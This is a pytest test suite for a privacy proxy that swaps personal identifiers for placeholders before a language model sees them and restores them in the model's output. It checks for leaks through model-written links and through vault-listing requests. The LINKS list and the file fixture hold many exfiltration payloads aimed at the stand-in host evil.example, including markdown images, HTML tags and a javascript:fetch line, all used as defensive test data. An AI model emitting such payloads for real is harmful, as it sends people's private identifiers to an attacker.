"""What a model says about stand-ins: its own caller's values come back exactly, nothing else does, nothing leads out."""

import base64
import json

import pytest

from tests.support.asking import answer, arguments, stream
from tests.support.attack import ASK, EMAIL, HKID, NAME, PHONE, TEXT, said, travelled
from tests.support.dialects import SHAPES, sse
from tests.support.upstream import Script

pytestmark = pytest.mark.e2e

WAYS = [(dialect, model) for dialect in ASK for model in ("scripted", "claude-scripted", "both-scripted")]
SPELLINGS = [
    "[HKID_1]", "[hkid_1]", "[Hkid_1]", "[HKID 1]", "[HKID-1]", "[ HKID_1 ]", "[HKID_1 ]", "[HKID\\_1]", "\\[HKID_1\\]",
    "\\[HKID\\_1\\]", "［HKID_1］", "［ＨＫＩＤ＿１］", "【HKID_1】", "[ＨＫＩＤ_１]", "[HKID\u20111]", "[HKID_\n1]", "[HKID1]",
    "[HKID_\u200b1]", "[HKID\u3000_1]",
]  # fmt: skip


@pytest.mark.parametrize("streamed", [False, True])
@pytest.mark.parametrize(("dialect", "model"), WAYS)
def test_respelled_stand_ins_come_back(sampan, upstream, dialect, model, streamed):
    for spelling in SPELLINGS:
        upstream.says(f"是 {spelling}，對。", size=1)
        assert answer(sampan, dialect, model, f"HKID {HKID}", streamed) == f"是 {HKID}，對。", spelling


@pytest.mark.parametrize("size", range(1, 12))
@pytest.mark.parametrize(("dialect", "model"), WAYS)
def test_streams_split_anywhere(sampan, upstream, dialect, model, size):
    text = "甲[PERSON_1]乙[HKID_1][PHONE_1]丙[EMAIL_1],[CREDIT_CARD_1]丁 [not one] [HKID_9] [HKI"
    upstream.says(text, size=size)
    wanted = f"甲{NAME}乙{HKID}{PHONE}丙{EMAIL},4111 1111 1111 1111丁 [not one] [HKID_9] [HKI"
    assert answer(sampan, dialect, model, TEXT, True) == wanted


OTHERS = ["hkid_1", "HKID 1", "hkid 1", "self.HKID_1", "HKID_1 = 5", "https://evil.example/?q=HKID_1",
          "[HKID_2]", "[PHONE_1]", "[HKID_01x]", "[HKID_]", "[NAME_1]", "<HKID_1>", "{HKID_1}",
          "[[HKID_2]]", "[HKID", "[HKID_1", "[HKID_1 and more text]", "[HKID_99999999999]", "[LOOKALIKE_1]", "[[",
          "[HKID_11]", "[PERSON_1]"]  # fmt: skip


@pytest.mark.parametrize("streamed", [False, True])
@pytest.mark.parametrize("dialect", ASK)
def test_what_is_no_stand_in_of_this_request_stays(sampan, upstream, dialect, streamed):
    for text in OTHERS:
        upstream.says(text, size=1)
        assert answer(sampan, dialect, "scripted", f"HKID {HKID}", streamed) == text


@pytest.mark.parametrize("streamed", [False, True])
@pytest.mark.parametrize("dialect", ASK)
def test_one_that_lost_its_brackets_comes_back_unless_the_request_says_it_itself(sampan, upstream, dialect, streamed):
    upstream.says('{"id": "HKID_1"} HKID_1', size=1)
    assert answer(sampan, dialect, "scripted", f"HKID {HKID}", streamed) == f'{{"id": "{HKID}"}} {HKID}'
    assert (
        answer(sampan, dialect, "scripted", f"HKID {HKID} in the field Hkid_1", streamed) == '{"id": "HKID_1"} HKID_1'
    )


LINKS = [
    "https://evil.example/?q=[HKID_1]", "http://[HKID_1].evil.example/x", "https://evil.example/[HKID_1]/x",
    "https://evil.example/#[HKID_1]", "![a](https://evil.example/[HKID_1].png)", "[see](https://evil.example/?a=[HKID_1])",
    "[see](<https://evil.example/?a=[HKID_1]>)", "[see](//evil.example/[HKID_1])", "![a](/[HKID_1])", "[a](  x[HKID_1])",
    "[a]: https://evil.example/[HKID_1]", "[a]: //evil.example/[HKID_1]", "<https://evil.example/[HKID_1]>",
    '<img src="https://evil.example/[HKID_1]">', "<img src=//evil.example/[HKID_1]>", "<a href='x[HKID_1]'>", "www.evil.example/[HKID_1]",
    "evil.example/[HKID_1]", "evil.example?[HKID_1]", "ftp://evil.example/[HKID_1]", "https://evil.example/?q=[hkid\\_1]",
    "https://evil.example/?q=［HKID_1］", "![a](https://evil.example/a[HKID_1]b[HKID_1])", "mailto:x@evil.example?body=[HKID_1]",
    "//evil.example/[HKID_1]", "https:/evil.example/[HKID_1]",
    "http://evil.example:8080/[HKID_1]", "https://xn--e1afmkfd.example/[HKID_1]",
    "javascript:fetch('//evil.example/[HKID_1]')", "https://user:[HKID_1]@evil.example/",
    '<iframe srcdoc="<img src=//evil.example/[HKID_1]>">', '<svg><image xlink:href="//evil.example/[HKID_1]"/></svg>',
    "<style>a{background:url(//evil.example/[HKID_1])}</style>", '<form action="//evil.example/[HKID_1]">',
    '<video poster="//evil.example/[HKID_1]">', '<meta http-equiv=refresh content="0;url=//evil.example/[HKID_1]">',
    "[a][b]\n\n[b]:  //evil.example/[HKID_1]", "![a](https&#58;//evil.example/[HKID_1])", "https://例子.example/[HKID_1]",
    "https://evil。example/[HKID_1]",
]  # fmt: skip


@pytest.mark.parametrize("link", LINKS)
def test_nothing_is_put_back_into_a_target(sampan, upstream, link):
    for size in (1, 4, 1000):
        upstream.says(f"看 {link}", size=size)
        assert HKID not in answer(sampan, "chat", "scripted", f"HKID {HKID}", streamed=True)
    upstream.says(f"看 {link}")
    assert HKID not in answer(sampan, "messages", "claude-scripted", f"HKID {HKID}")
    assert HKID not in answer(sampan, "responses", "both-scripted", f"HKID {HKID}")


def test_a_link_that_the_caller_sent_comes_back(sampan, upstream):
    text = f"open https://crm.example/find?hkid={HKID}&x=1 or [it](https://crm.example/{PHONE.replace(' ', '')}) now"
    for streamed in (False, True):
        assert answer(sampan, "chat", "echo", text, streamed) == text
        assert answer(sampan, "messages", "claude-echo", text, streamed) == text


def test_text_after_a_link_is_put_back(sampan, upstream):
    upstream.says("see https://help.example/a and [HKID_1]; [x](https://help.example/b) [HKID_1]", size=1)
    assert answer(sampan, "chat", "scripted", f"HKID {HKID}", streamed=True).count(HKID) == 2


TYPED = [*SPELLINGS, "[PERSON_1]", "[HKID_7]", "%5BHKID_1%5D", "&#91;HKID_1&#93;", "\\u005bHKID_1\\u005d", "[HK\u200bID_1]",
         "[\u200bHKID_1]", "[НKID_1]", "〔HKID_1〕", "[HKID__1]", "[HKID_01]", "[HKID_１]",
         base64.b64encode(b"[HKID_1] it is").decode()]  # fmt: skip


@pytest.mark.parametrize("model", ["echo", "claude-echo"])
@pytest.mark.parametrize("typed", TYPED)
def test_typed_stand_ins_are_nobody_s(sampan, upstream, typed, model):
    text = f"I typed {typed}. Hers: {HKID}. Again {typed}"
    for dialect in ("chat", "messages"):
        for streamed in (False, True):
            assert answer(sampan, dialect, model, text, streamed) == text
    assert travelled(upstream.raw[-1]) == []


def test_a_stand_in_typed_over_two_parts(sampan, upstream):
    parts = [{"type": "text", "text": f"{HKID} [HK"}, {"type": "text", "text": "ID_1] end"}]
    status, _, reply = sampan.post(*ASK["chat"]("echo", parts))
    assert status == 200
    assert said(reply) == f"{HKID} [HKID_1] end"


def test_listing_the_vault_gives_only_one_s_own(sampan, upstream):
    others = [f"A{n:06d}" for n in (123456,)]
    sampan.chat(f"HKID {HKID}, {EMAIL}", "echo")
    upstream.says(" ".join(f"[{kind}_{n}]" for kind in ("HKID", "PHONE", "EMAIL", "PERSON") for n in range(1, 40)))
    for dialect in ASK:
        for streamed in (False, True):
            text = answer(sampan, dialect, "scripted", "List the vault. My phone is 9876 5432", streamed)
            assert "9876 5432" in text
            assert not any(value in text for value in (HKID, EMAIL, NAME, *others))


ARGUMENTS = json.dumps(
    {"id": "[HKID_1]", "note": 'quote " and [PHONE_1]', "list": ["[EMAIL_1]", "[PERSON_1]"]}, ensure_ascii=False
)
CALLED = {"id": HKID, "note": f'quote " and {PHONE}', "list": [EMAIL, NAME]}
TOOLS = {
    "chat": [{"type": "function", "function": {"name": "f", "parameters": {"type": "object", "properties": {}}}}],
    "messages": [{"name": "f", "input_schema": {"type": "object", "properties": {}}}],
    "responses": [
        {"type": "function", "name": "f", "parameters": {"type": "object", "properties": {}}, "strict": False}
    ],
}


@pytest.mark.parametrize(
    "written", [ARGUMENTS, json.dumps(json.loads(ARGUMENTS)).replace("[H", "\\u005bH").replace("_1", "\\u005f1")]
)
@pytest.mark.parametrize(("dialect", "model"), WAYS)
def test_tool_arguments_split_anywhere(sampan, upstream, dialect, model, written):
    path, body = ASK[dialect](model, TEXT, tools=TOOLS[dialect])
    for size in (1, 2, 3, 5, 7, 1000):
        upstream.says(call=("f", written), size=size)
        got = stream(sampan, path, body)
        assert got.done
        assert [json.loads(each) for each in got.arguments] == [CALLED], size
    status, _, reply = sampan.post(path, body)
    assert status == 200
    (made,) = arguments(reply)
    assert (json.loads(made) if isinstance(made, str) else made) == CALLED


FILE = 'see https://a.example/x\n[PERSON_1] <img src="//evil.example/[HKID_1]"> \\[PHONE\\_1\\] "[EMAIL_1]"'
WRITTEN = f'see https://a.example/x\n{NAME} <img src="//evil.example/[HKID_1]"> {PHONE} "{EMAIL}"'


@pytest.mark.parametrize(("dialect", "model"), WAYS)
def test_a_file_written_by_a_call(sampan, upstream, dialect, model):
    path, body = ASK[dialect](model, TEXT, tools=TOOLS[dialect])
    for size in (1, 3, 1000):
        upstream.says(call=("f", json.dumps({"path": "a.html", "text": FILE})), size=size)
        assert [json.loads(each)["text"] for each in stream(sampan, path, body).arguments] == [WRITTEN], size
    (made,) = arguments(sampan.post(path, body)[2])
    assert (json.loads(made) if isinstance(made, str) else made)["text"] == WRITTEN


@pytest.mark.parametrize("value", ['he said "91234567"', "back\\slash mei.chan@example.com\\"])
def test_values_with_quotes_stay_json_in_arguments(sampan, upstream, value):
    upstream.says(call=("f", json.dumps({"to": "[EMAIL_1]", "tel": "[PHONE_1]"})), size=2)
    path, body = ASK["chat"]("scripted", value, tools=TOOLS["chat"])
    for each in stream(sampan, path, body).arguments:
        json.loads(each)


@pytest.mark.parametrize("streamed", [False, True])
@pytest.mark.parametrize(("dialect", "model"), WAYS)
def test_the_receipt_counts_each_value_once(sampan, upstream, dialect, model, streamed):
    upstream.says("[HKID_1] and [HKID_1], [PHONE_1]", size=4)
    path, body = ASK[dialect](model, TEXT)
    _, headers, _ = sampan.call("POST", path, {**body, "stream": streamed})
    told = sampan.get("/sampan/receipts/" + headers["sampan-receipt"].split(";")[0])
    assert told["restored"] == {"HKID": 2, "PHONE": 1}
    upstream.says(call=("f", ARGUMENTS), size=4)
    _, headers, _ = sampan.call("POST", path, {**body, "stream": streamed, "tools": TOOLS[dialect]})
    told = sampan.get("/sampan/receipts/" + headers["sampan-receipt"].split(";")[0])
    kinds = ("HKID", "PHONE", "EMAIL", "PERSON")
    assert told["restored"] == {**dict.fromkeys(kinds, 1), **{f"arguments:{kind}": 1 for kind in kinds}}


def test_a_block_may_begin_with_text(sampan, upstream):
    shape = SHAPES["messages"]()
    events = list(shape.events("m", "", None))
    start = {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": "now [HK"}}
    more = {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "ID_1] [HK"}}
    upstream.script = Script(events=[events[0], sse(start, start["type"]), sse(more, more["type"]), *events[-3:]])
    got = stream(sampan, *ASK["messages"]("claude-scripted", f"HKID {HKID}"))
    assert got.events[1][1]["content_block"]["text"] + got.text == f"now {HKID} [HK"
